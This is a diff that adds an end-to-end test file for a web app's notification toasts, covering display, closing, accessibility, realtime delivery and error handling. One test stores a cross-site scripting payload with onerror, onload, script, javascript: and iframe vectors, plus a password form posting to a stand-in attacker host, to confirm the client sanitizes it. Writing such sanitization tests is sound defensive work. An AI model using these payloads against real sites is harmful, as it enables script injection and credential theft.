@@ -1,0 +1,142 @@
+import type { Page, WebSocket } from 'playwright-core'
+import { describe, expect, it } from 'vitest'
+import { axe, BOTH_SIZES, useBrowser, visit } from '../support/browser.ts'
+import { status } from '../support/console-noise.ts'
+import { arriveAt } from '../support/members.ts'
+import { callAs, signInAs } from '../support/sign-in.ts'
+import { useWorld } from '../support/world.ts'
+
+useBrowser()
+const world = useWorld()
+
+/** Stores a notification as it is, past the server's cleaning: what an older version may have left. */
+const store = (memberId: number, cause: string, title: string, message: string) =>
+  world().db.pool.query(
+    'insert into notification (member_id, cause, title, message, created_at) values ($1, $2, $3, $4, $5)',
+    [memberId, cause, title, message, world().clock.now()],
+  )
+const invite = (memberId: number) =>
+  world().db.pool.query(
+    `insert into review_invitation (member_id, review_step_id, level, occasion, invited_at)
+      values ($1, 6, 1, 'module-12', now())`,
+    [memberId],
+  )
+const messages = (page: Page) => page.getByRole('region', { name: 'Messages' })
+const toast = (page: Page, title: string) => messages(page).getByRole('status').filter({ hasText: title })
+
+/** The live line of the page, once it is joined. */
+const liveLine = (page: Page) =>
+  new Promise<WebSocket>((resolve) => {
+    page.on('websocket', (socket) => {
+      if (!socket.url().includes('/realtime')) return
+      socket.on('framereceived', ({ payload }) => {
+        if (String(payload).startsWith('40/notificationshub')) resolve(socket)
+      })
+    })
+  })
+
+describe('what happened while the member was away', () => {
+  it.each(BOTH_SIZES)(
+    'is shown with title and HTML message until it is closed, on %s [NOTIF-03, NOTIF-04, NOTIF-05]',
+    async (size) => {
+      const page = await visit({ size })
+      const { member } = await arriveAt(page, world(), 4)
+      for (const n of [1, 2, 3, 4, 5])
+        await store(member.id, `${n}`, `News ${n}`, `<p>About <b>it ${n}</b></p>`)
+      await page.goto('/dashboard')
+      await toast(page, 'News 1').waitFor()
+      expect(await toast(page, 'News 1').locator('b').innerText()).toBe('it 1')
+      expect(await messages(page).getByRole('status').count()).toBe(3)
+      expect(await axe(page)).toEqual([])
+      // The header stays free: nothing that waits to be closed may lie on it.
+      await page.getByRole('button', { name: /My account/ }).click({ trial: true })
+      await page.getByRole('button', { name: 'Close: News 1' }).press('Enter')
+      await toast(page, 'News 4').waitFor()
+      expect(await toast(page, 'News 1').count()).toBe(0)
+      await page.getByRole('button', { name: 'CLOSE ALL (1 MORE)' }).click()
+      expect(await messages(page).getByRole('status').count()).toBe(0)
+      // Delivered once: a new visit is quiet, the list still has them.
+      await page.reload()
+      await page.getByRole('button', { name: 'Notifications, 5 new' }).click()
+      const list = page.getByRole('dialog', { name: 'Notifications' })
+      await list.getByText('News 5').waitFor()
+      expect(await list.getByRole('listitem').first().innerText()).toContain('News 5')
+      expect(await messages(page).getByRole('status').count()).toBe(0)
+      expect(await axe(page)).toEqual([])
+      await page.keyboard.press('Escape')
+      const bell = page.getByRole('button', { name: 'Notifications', exact: true })
+      expect(await bell.evaluate((element) => element === document.activeElement)).toBe(true)
+      // What was read here is not new on another device; what comes after it is.
+      await store(member.id, '6', 'News 6', '<p>About it</p>')
+      const elsewhere = await visit({ size })
+      await signInAs(elsewhere, member.id)
+      await elsewhere.goto('/dashboard')
+      await elsewhere.getByRole('button', { name: 'Notifications, 1 new' }).waitFor()
+    },
+  )
+
+  it('cannot harm: what slipped into the database is cleaned once more [NOTIF-04, NOTIF-05]', async () => {
+    // The browser mentions handlers that it meets while the text is being cleaned, apart from the page.
+    const page = await visit({ expected: [/Executing inline event handler violates/] })
+    const { member } = await arriveAt(page, world(), 4)
+    const attack =
+      '<p id="main" style="position:fixed;inset:0">Hello</p><img src=x onerror="window.hit=1"><script>window.hit=1</script>' +
+      '<svg onload="window.hit=1"></svg><a href="javascript:window.hit=1">here</a><iframe srcdoc="<script>parent.hit=1</script>"></iframe>' +
+      '<form action="https://evil.example"><input name="password"></form>'
+    await store(member.id, 'attack', 'Careful <b>now</b>', attack)
+    await page.goto('/dashboard')
+    const card = toast(page, 'Careful <b>now</b>')
+    await card.waitFor()
+    await card.getByText('here').click()
+    expect(await page.evaluate(() => (window as unknown as { hit?: number }).hit)).toBeUndefined()
+    expect(
+      await card.locator('script, iframe, form, input, [style], [onerror], [onload], [id]').count(),
+    ).toBe(0)
+    expect(await card.getByText('here').getAttribute('href')).toBeNull()
+  })
+})
+
+describe('the live line', () => {
+  it('brings the level review’s notification a second after the hint, and its link leads to the welcome page [NOTIF-01, NOTIF-02, NOTIF-05]', async () => {
+    const page = await visit()
+    const { member, session } = await arriveAt(page, world(), 4)
+    await invite(member.id)
+    const joined = liveLine(page)
+    const calls: number[] = []
+    page.on('request', (request) => {
+      if (request.url().endsWith('/api/Notification/GetNotification')) calls.push(Date.now())
+    })
+    await page.goto('/findCoach')
+    const socket = await joined
+    await expect.poll(() => calls.length).toBe(1)
+    let hinted = 0
+    socket.on('framereceived', ({ payload }) => {
+      if (String(payload).includes('GetNotifications')) hinted = Date.now()
+    })
+    await callAs(session, 'PUT', '/Customer/SetYearInReviewStep')
+    await toast(page, 'Your level review has begun').waitFor()
+    expect(calls).toHaveLength(2)
+    expect((calls[1] ?? 0) - hinted).toBeGreaterThanOrEqual(950)
+    await toast(page, 'Your level review has begun').getByRole('link').click()
+    await page.waitForURL('**/Level2Welcome')
+    expect(await messages(page).getByRole('status').count()).toBe(0)
+  })
+
+  it('keeps what is shown when the next look fails [NOTIF-05]', async () => {
+    const page = await visit({ expected: status(500) })
+    const { member, session } = await arriveAt(page, world(), 4)
+    await invite(member.id)
+    await store(member.id, 'first', 'First news', '<p>Still here</p>')
+    const joined = liveLine(page)
+    await page.goto('/findCoach')
+    await joined
+    await toast(page, 'First news').waitFor()
+    await page.route('**/api/Notification/GetNotification', (route) =>
+      route.fulfill({ status: 500, json: { code: 'internal', title: 'Error', message: 'x' } }),
+    )
+    const asked = page.waitForResponse('**/api/Notification/GetNotification')
+    await callAs(session, 'PUT', '/Customer/SetYearInReviewStep')
+    await asked
+    expect(await toast(page, 'First news').innerText()).toContain('Still here')
+  })
+})
